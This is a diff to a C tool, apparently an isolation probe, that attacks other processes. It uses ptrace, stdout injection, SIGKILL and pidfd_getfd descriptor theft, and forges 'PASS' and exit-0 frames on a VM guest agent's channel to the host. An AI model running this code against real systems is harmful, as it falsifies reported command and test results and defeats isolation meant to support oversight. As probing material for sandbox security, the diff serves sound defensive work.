@@ -6,9 +6,15 @@
  *                        turn that call into exit_group(0)
  *   forge fd PID         write "PASS\n" into PID's stdout (/proc/PID/fd/1)
  *   forge signal PID     SIGKILL PID
- *   forge hunt MARK LOG  loop for 30 s: every process whose command line holds
- *                        MARK gets all three; each attempt's result is
- *                        appended to LOG ("ptrace PID: Operation not permitted")
+ *   forge getfd PID      take PID's descriptors with pidfd_getfd; a virtio
+ *                        port among them (the VM agent's channel to the host)
+ *                        gets a forged STDOUT "PASS" frame and EXIT(0) frame
+ *   forge getfd agent    the same on the VM's guest agent (comm lazyfs-agent)
+ *   forge hunt MARK LOG [MODES]
+ *                        loop for 30 s: every process whose command line holds
+ *                        MARK gets fd, ptrace and signal (or those MODES, e.g.
+ *                        "fd,ptrace"); each attempt's result is appended to LOG
+ *                        ("ptrace PID: Operation not permitted")
  *
  * Exit status of the single modes: 0 when the attack worked.
  */
@@ -20,7 +26,9 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <stdint.h>
 #include <sys/ptrace.h>
+#include <sys/syscall.h>
 #include <sys/user.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -58,6 +66,55 @@ static int forge_fd(pid_t pid) {
     return r;
 }
 
+static int forged_frames(int fd) {
+    /* the guest agent's framing: u32 length, u8 type, u24 request id; a
+     * forger guesses the id (a counter) */
+    unsigned char f[8 + 5 + 8 + 8] = {0};
+    uint32_t five = 5, eight = 8;
+    memcpy(f, &five, 4); f[4] = 33; f[5] = 1;            /* STDOUT */
+    memcpy(f + 8, "PASS\n", 5);
+    memcpy(f + 13, &eight, 4); f[17] = 35; f[18] = 1;    /* EXIT: code 0, flags 0 */
+    return write(fd, f, sizeof f) == (ssize_t)sizeof f ? 0 : errno;
+}
+
+static pid_t agent_pid(void) {
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    pid_t found = 0;
+    while (d && (e = readdir(d)) && !found) {
+        char path[300], comm[32] = {0};
+        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
+        int fd = open(path, O_RDONLY);
+        if (fd < 0) continue;
+        ssize_t n = read(fd, comm, sizeof comm - 1);
+        close(fd);
+        if (n > 0 && strncmp(comm, "lazyfs-agent", 12) == 0) found = atoi(e->d_name);
+    }
+    if (d) closedir(d);
+    return found;
+}
+
+static int forge_getfd(pid_t pid) {
+    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+    if (pidfd < 0) return errno;
+    int first = 0, took = 0;
+    for (int k = 0; k < 64; k++) {
+        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, k, 0);
+        if (fd < 0) {
+            if (errno != EBADF && !first) first = errno;
+            continue;
+        }
+        took = 1;
+        char link[128] = {0}, path[64];
+        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+        if (readlink(path, link, sizeof link - 1) > 0 && strstr(link, "vport"))
+            forged_frames(fd);
+        close(fd);
+    }
+    close(pidfd);
+    return took ? 0 : (first ? first : EBADF);
+}
+
 static int forge_signal(pid_t pid) {
     return kill(pid, SIGKILL) == 0 ? 0 : errno;
 }
@@ -82,7 +139,7 @@ static void note(const char *log, const char *what, pid_t pid, int err) {
     fclose(f);
 }
 
-static int hunt(const char *mark, const char *log) {
+static int hunt(const char *mark, const char *log, const char *modes) {
     time_t end = time(NULL) + 30;
     note(log, "ready", getpid(), 0);
     while (time(NULL) < end) {
@@ -91,9 +148,9 @@ static int hunt(const char *mark, const char *log) {
         while (d && (e = readdir(d))) {
             pid_t pid = atoi(e->d_name);
             if (pid <= 1 || pid == getpid() || !holds(pid, mark)) continue;
-            note(log, "fd", pid, forge_fd(pid));
-            note(log, "ptrace", pid, forge_ptrace(pid));
-            note(log, "signal", pid, forge_signal(pid));
+            if (strstr(modes, "fd")) note(log, "fd", pid, forge_fd(pid));
+            if (strstr(modes, "ptrace")) note(log, "ptrace", pid, forge_ptrace(pid));
+            if (strstr(modes, "signal")) note(log, "signal", pid, forge_signal(pid));
         }
         if (d) closedir(d);
         usleep(2000);
@@ -102,13 +159,19 @@ static int hunt(const char *mark, const char *log) {
 }
 
 int main(int argc, char **argv) {
-    if (argc == 4 && strcmp(argv[1], "hunt") == 0) return hunt(argv[2], argv[3]);
+    if ((argc == 4 || argc == 5) && strcmp(argv[1], "hunt") == 0)
+        return hunt(argv[2], argv[3], argc == 5 ? argv[4] : "fd,ptrace,signal");
     if (argc != 3) {
-        fprintf(stderr, "usage: forge ptrace|fd|signal PID | hunt MARK LOG\n");
+        fprintf(stderr, "usage: forge ptrace|fd|signal|getfd PID | getfd agent | hunt MARK LOG\n");
         return 2;
     }
-    pid_t pid = atoi(argv[2]);
-    int e = strcmp(argv[1], "ptrace") == 0 ? forge_ptrace(pid)
+    pid_t pid = strcmp(argv[2], "agent") == 0 ? agent_pid() : atoi(argv[2]);
+    if (pid <= 0) {
+        fprintf(stderr, "forge: no such process %s\n", argv[2]);
+        return 2;
+    }
+    int e = strcmp(argv[1], "getfd") == 0 ? forge_getfd(pid)
+          : strcmp(argv[1], "ptrace") == 0 ? forge_ptrace(pid)
           : strcmp(argv[1], "fd") == 0 ? forge_fd(pid)
           : strcmp(argv[1], "signal") == 0 ? forge_signal(pid) : EINVAL;
     if (e) fprintf(stderr, "forge %s %d: %s\n", argv[1], pid, strerror(e));
